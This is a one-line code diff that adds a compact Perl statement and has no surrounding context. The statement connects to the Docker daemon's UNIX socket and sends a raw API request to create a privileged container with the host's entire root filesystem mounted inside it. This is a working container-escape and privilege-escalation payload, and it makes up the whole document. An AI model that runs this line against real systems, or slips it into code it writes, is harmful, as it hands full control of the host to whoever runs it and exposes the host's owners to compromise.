@@ -1,0 +1,1 @@
+use IO::Socket::UNIX;my $s=IO::Socket::UNIX->new(Peer=>'/var/run/docker.sock');print $s "POST /containers/create HTTP/1.1\r\nHost: d\r\nContent-Type: application/json\r\n\r\n{\"Image\":\"a\",\"HostConfig\":{\"Privileged\":true,\"Binds\":[\"/:/h\"]}}";
